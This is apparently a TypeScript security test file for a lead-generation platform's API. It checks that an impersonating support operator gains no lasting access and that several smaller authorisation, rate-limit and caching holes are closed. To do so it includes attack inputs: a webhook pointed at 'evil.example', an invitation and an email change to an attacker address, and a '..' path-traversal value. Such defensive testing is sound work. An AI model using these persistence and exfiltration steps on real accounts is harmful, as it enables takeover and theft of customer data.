import { randomUUID } from 'node:crypto'
import { moduleSlugs } from '#contract/values/modules.ts'
import type { Database } from '#server/platform/postgres/database.ts'
import { onHunter } from '#testing/fakes/sources/on-hunter.ts'
import { makeLeads } from '#testing/make/make-leads.ts'
import { makeMember } from '#testing/make/make-member.ts'
import { makeUser, type TestUser } from '#testing/make.ts'
import type { openOutside } from './outside-calls.ts'

type Outside = ReturnType<typeof openOutside> & { db: Database; admin: TestUser }

/** An operator who would stay after the help is over. */
export async function impersonator({ db, admin, call, told }: Outside): Promise<void> {
  const client = await makeUser(db)
  const begun = await call(admin, `POST /api/users/${client.id}/impersonate`, {
    body: {
      reason: 'They asked for help',
    },
  })
  const acting = { token: begun.textAt('data.authorisation.token') }
  const invitation = {
    email: 'mine@evil.example',
    first_name: '',
    last_name: '',
    modules: [],
    access_to_wallet: false,
    credit_limit: null,
  }
  const key = { name: 'K', scopes: ['leads.read'], campaign_ids: null, budget: null, expires_at: null }
  const zap = { target_url: 'https://hooks.zapier.com/hooks/catch/1/a/', event: 'lead.created' }
  const doors: [string, string, object][] = [
    ['invitations', 'POST /api/team/invitations', invitation],
    ['keys', 'POST /api/api-keys', key],
    ['webhooks', 'POST /api/webhook', { url: 'https://evil.example/hook', events: ['lead.created'] }],
    ['Zaps', 'POST /api/integrations/zapier/hooks', zap],
    ['passkeys', 'POST /api/passkeys/options', {}],
    ['the email', 'POST /api/mail-change', { email: 'mine@evil.example', current_password: '' }],
  ]
  const open: string[] = []
  for (const [what, address, body] of doors) {
    const { status } = await call(acting, address, { body })
    if (status < 300) open.push(what)
  }
  told('6 support that acts as a client', { 'gives no lasting access': open.length === 0 }, open.join(', '))
}

/** What keys, teammates and caches are told. */
export async function smallHoles({ db, admin, call, told, keyOf }: Outside): Promise<void> {
  const user = await makeUser(db, { credits: 5 })
  const [mine, other] = [
    await makeLeads(db, user, {
      leads: [{ name: 'Seen', email: 'seen@firm.example', email_state: 'found' }],
    }),
    await makeLeads(db, user, { name: 'Other', leads: [{ email: 'o@firm.example', email_state: 'found' }] }),
  ]
  const hooks = await keyOf(user, { scopes: ['webhooks.write'] })
  const samples = await call(hooks, 'GET /api/integrations/zapier/samples?event=lead.created')
  const narrow = await keyOf(user, { scopes: ['leads.read', 'account.read'], campaign_ids: [mine] })
  await call(user, 'PUT /api/freshness', {
    body: {
      max_age_days: 90,
      checks_per_month: 10,
      list_ids: [other],
      lists: [other],
    },
  })
  const freshness = await call(narrow, 'GET /api/freshness')
  const mate = await makeMember(db, user, {
    modules: moduleSlugs,
  })
  const dear = {
    type: 'influencer',
    name: 'D',
    criteria: { type: 'influencer', platforms: ['instagram'] },
    max_leads: 500,
    max_credits: 5_000,
  }
  const refused = await call(mate, 'POST /api/campaigns', { body: dear })
  const mcp = await keyOf(user, { scopes: ['leads.read'] })
  const hello = await call(mcp, 'POST /mcp', {
    body: { jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} },
  })
  const mapping = { ...onHunter, path: '/people/{domain}/x?token={key}' }
  const given = { base_url: 'https://api.firm.example/v2', key: 'key', mapping, values: { domain: '..' } }
  const climbed = await call(admin, 'POST /api/admin/sources/try', { body: given })
  const me = await call(user, 'GET /api/me')
  const first = {
    key: randomUUID(),
    other: await keyOf(user, { scopes: ['leads.write'] }),
    one: await keyOf(user, { scopes: ['leads.write'] }),
  }
  const label = { name: 'Once', color: 1 }
  const repeated = [
    await call(first.one, 'POST /api/labels', { body: label, key: first.key }),
    await call(first.other, 'POST /api/labels', { body: label, key: first.key }),
  ]
  told('7 smaller holes', {
    'a key for webhooks reads no lead':
      !samples.text.includes('seen@firm.example') && !samples.text.includes('o@firm.example'),
    'a key for one list reads no other id': !freshness.text.includes(other),
    'a refusal tells no balance without access':
      refused.status !== 402 || !/\b5\b/.test(JSON.stringify(refused.at('values') ?? {})),
    'MCP messages are counted':
      hello.headers['ratelimit-remaining'] !== undefined || hello.headers['ratelimit'] !== undefined,
    'a slot of an own API is no way up': climbed.at('data.request') === null,
    'answers are not stored': me.headers['cache-control'] === 'no-store',
    'a key is given no answer of another':
      repeated[1]?.status !== 200 || repeated[1].text !== repeated[0]?.text,
  })
}
